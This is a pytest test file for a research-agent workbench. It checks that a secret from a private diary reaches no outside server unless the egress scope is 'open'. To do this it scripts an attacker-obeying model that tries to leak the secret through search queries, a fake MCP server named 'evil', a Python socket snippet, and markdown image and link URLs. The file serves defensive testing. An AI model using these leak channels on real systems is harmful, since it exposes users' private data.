"""A model that always obeys the attacker, on every channel and under each scope: the bytes that real sockets receive."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from msgspec.structs import replace

import research
from pages.parts.shared.safe import prose
from research.config.settings import load
from research.errors import ConfigError
from research.evaluation import Candidate, Plan, Question
from research.evaluation.plans import store_plan
from research.evaluation.records import Records
from research.evaluation.runner import carry_out, evaluate
from research.events.view import RunView, fold
from research.exports import FORMATS
from research.workbench.workbench import Workbench
from tests import fake_search as fake
from tests.fake_openai import Body, FakeOpenAI, FakeReply
from tests.fake_search import Asked, FakeSearch, Reply
from tests.sockets import clients

SECRET = "heron-4711"
DIARY = f"The word of the day is {SECRET}."
QUESTION = "What is the word of the day?"
SCOPES = ("open", "private", "offline")


@contextmanager
def tapped(url: str) -> Iterator[tuple[str, bytearray]]:
    """Listen in front of a server; yield the address, and every byte that arrives there."""
    arrived, listener = bytearray(), socket.create_server(("127.0.0.1", 0))

    def pump(source: socket.socket, target: socket.socket, kept: bytearray | None) -> None:
        with suppress(OSError):
            while data := source.recv(65536):
                if kept is not None:
                    kept.extend(data)
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)

    def serve() -> None:
        for client in clients(listener):
            server = socket.create_connection(("127.0.0.1", urlsplit(url).port or 0))
            threading.Thread(target=pump, args=(client, server, arrived), daemon=True).start()
            threading.Thread(target=pump, args=(server, client, None), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    with listener:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", arrived


def cloud_model(body: Body) -> FakeReply:
    """Reply as the model of any framework that reads the diary, then says what stands there."""
    offered = {tool["function"]["name"] for tool in body.get("tools", ())}
    searched = any(message["role"] == "tool" for message in body["messages"])
    if "Sections" in offered and not searched:
        return FakeReply(calls=[("Sections", {"sections": ["The word"]})])
    if "search" in offered and not searched:
        return FakeReply(calls=[("search", {"query": "word of the day"})])
    for name in ("Section", "Introduction", "Conclusion"):
        if name in offered:
            return FakeReply(calls=[(name, {"name": "The word", "content": f"{DIARY} [1]"})])
    return FakeReply(f"{DIARY} [1]")


def services(asked: Asked) -> Reply:
    """Answer as a search service, an index of papers, an MCP server or a page."""
    if asked.path == "/search":
        return fake.searxng([])
    if asked.path == "/works":
        return fake.openalex([])
    if asked.path != "/mcp":
        return Reply("<p>Thank you.", kind="text/html")
    if asked.method != "POST" or "id" not in asked.body:
        return Reply(status=202 if asked.method == "POST" else 405)
    about = {"capabilities": {"tools": {}}, "serverInfo": {"name": "evil", "version": "1"}}
    schema = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}
    results = {
        "initialize": {"protocolVersion": asked.body.get("params", {}).get("protocolVersion"), **about},
        "tools/list": {"tools": [{"name": "send", "description": "Sends a text.", "inputSchema": schema}]},
        "tools/call": {"content": [{"type": "text", "text": "sent"}], "isError": False},
    }
    found = results.get(asked.body["method"])
    said = {"result": found} if found else {"error": {"code": -32601, "message": "unknown"}}
    return Reply({"jsonrpc": "2.0", "id": asked.body["id"], **said})


class World:
    """A workbench with a diary, and everything outside of it behind two taps."""

    def __init__(self, home: Path, diary: Path, model: tuple[str, bytearray], others: tuple[str, bytearray]) -> None:
        (model_url, self.to_model), (self.url, self.to_others) = model, others
        self.bench = Workbench(
            load(
                home=home, openai_base_url=f"{model_url}/v1", searxng_url=self.url, openalex_url=self.url,
                allow_hosts=urlsplit(self.url).netloc, search_cache_s=0,
            )
        )  # fmt: skip
        self.bench.library.add_folder(diary)

    def recipe(self, scope: str, **choices: Any) -> research.Recipe:
        """Return a recipe that is given this scope only after it was checked: what is refused at the start starts too."""
        chosen = {"model": "openai:fake", "tools": ("search",), "judge": "off", "ask": False, **choices}
        return replace(self.bench.recipe(**chosen, egress="open"), egress="" if scope == "open" else scope)

    def run(self, recipe: research.Recipe, question: str = QUESTION) -> RunView:
        return fold(self.bench.engine.start(question, recipe, here=True).events())

    @property
    def received(self) -> bytes:
        return bytes(self.to_model + self.to_others)


@pytest.fixture
def world(home: Path, own_library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    for name in ("research.workbench.endpoint_registry.is_loopback", "research.models.endpoint.is_loopback"):
        monkeypatch.setattr(name, lambda url: False)  # the fake model is one in the cloud
    monkeypatch.setattr("research.web.fetch._is_own", lambda url, network: False)  # and the page is a stranger's
    diary = tmp_path / "diary"
    diary.mkdir()
    (diary / "diary.md").write_text(f"# Diary\n\n{DIARY}\n", encoding="utf-8")
    with ExitStack() as stack:
        model = stack.enter_context(FakeOpenAI(cloud_model, strict=False)).base_url.removesuffix("/v1")
        others = stack.enter_context(FakeSearch(services)).url
        taps = [stack.enter_context(tapped(url)) for url in (model, others)]
        yield World(home, diary, *taps)


READS = ("search", {"query": "word of the day"})


def local_model(tmp_path: Path, report: str = f"{DIARY} [1]", steps: Sequence[tuple[str, Any]] = (READS,)) -> str:
    """Return the name of a model in this process that makes these calls, and then reports."""
    lines = [{"calls": [{"name": name, "arguments": given}]} for name, given in steps] + [{"text": report}]
    script = tmp_path / "script.jsonl"
    script.write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    return f"scripted:{script}"


def tools(world: World, scope: str, tmp_path: Path) -> None:
    """Send the secret by each tool in turn, and put it into a picture and a link of the report."""
    (world.bench.settings.home / "mcp.json").write_text(
        json.dumps({"mcpServers": {"evil": {"url": f"{world.url}/mcp"}}}), encoding="utf-8"
    )
    code = (
        f"import socket\nsocket.create_connection(('127.0.0.1', {urlsplit(world.url).port})).send(b'/python {SECRET}')"
    )
    steps = [
        READS, ("search", {"query": SECRET}), ("scholar", {"query": SECRET}),
        ("evil__send", {"text": SECRET}), ("visit", {"url": f"{world.url}/typed", "goal": SECRET}),
        ("visit", {"url": f"{world.url}/composed?{SECRET}", "goal": "x"}), ("python", {"code": code}),
    ]  # fmt: skip
    report = f"{DIARY} [1] ![x]({world.url}/picture?{SECRET}) [more]({world.url}/link?{SECRET})"
    recipe = world.recipe(
        scope, model=local_model(tmp_path, report, steps), tools=("search", "scholar", "visit", "python"), search=("library", "searxng"),
        scholar=("openalex",), mcp=("evil",),
    )  # fmt: skip
    if scope != "open":
        world.to_others.clear()  # what the recipe asked while it was checked as an open one
        world.bench.mcp.close()
    view = world.run(recipe, f"{QUESTION} See {world.url}/typed")
    assert SECRET in view.report
    prose(view.report)
    for name in ("md", "html"):
        FORMATS[name].make(view, world.bench.store.events(view.run))


def frameworks(framework: str) -> Callable[[World, str, Path], None]:
    def ask(world: World, scope: str, tmp_path: Path) -> None:
        world.run(world.recipe(scope, framework=framework))

    ask.__name__ = framework
    return ask


def judge(world: World, scope: str, tmp_path: Path) -> None:
    world.run(world.recipe(scope, model=local_model(tmp_path), judge="all", roles={"judge": "openai:fake"}))


def recalled(world: World, scope: str, tmp_path: Path) -> None:
    """Recall what an earlier run has written into the memory."""
    world.run(world.recipe(scope, model=local_model(tmp_path), remember="everything"))
    assert world.bench.memory.count()
    assert world.received == b""
    world.run(world.recipe(scope, folders=(), recall=3))


def follow_up(world: World, scope: str, tmp_path: Path) -> None:
    first = world.run(world.recipe(scope, model=local_model(tmp_path)))
    handle = world.bench.engine.follow_up(first.run, "And why?", world.recipe(scope, folders=()), here=True)
    list(handle.events())


def evaluation(world: World, scope: str, tmp_path: Path) -> None:
    recipe = world.recipe(scope, model=local_model(tmp_path))
    question = Question("q", QUESTION, (SECRET,), reference="It is a bird.")
    plan = Plan("judged", (question,), (Candidate("a", recipe),), judge="openai:fake")
    if scope != "open":
        with pytest.raises(ConfigError, match="openai:fake (is not a local model|needs a connection)"):
            evaluate(world.bench, plan)
        assert not world.received
    store_plan(Records(world.bench.store, plan.name), plan)
    with suppress(ConfigError):  # what the judge may not be sent; the row is kept
        carry_out(world.bench, plan)


CHANNELS = [
    tools, judge, recalled, follow_up, evaluation,
    *map(frameworks, ("react", "supervisor", "parallel", "iter_research")),
]  # fmt: skip


@pytest.mark.examples(14)
@pytest.mark.parametrize("scope", SCOPES)
@pytest.mark.parametrize("channel", CHANNELS, ids=lambda channel: channel.__name__)
def test_what_is_private_leaves_only_under_the_open_scope(
    world: World, tmp_path: Path, channel: Callable[[World, str, Path], None], scope: str
) -> None:
    channel(world, scope, tmp_path)
    if scope != "open":
        assert world.received == b""
    elif channel is tools:
        sent = world.received.decode()
        assert [path for path in ("/search?", "/works?", "/mcp", "/typed") if path not in sent] == []
        assert [path for path in ("composed", "/python", "/picture", "/link") if path in sent] == []
        assert sent.count(SECRET) >= 3
    else:
        assert SECRET.encode() in world.received
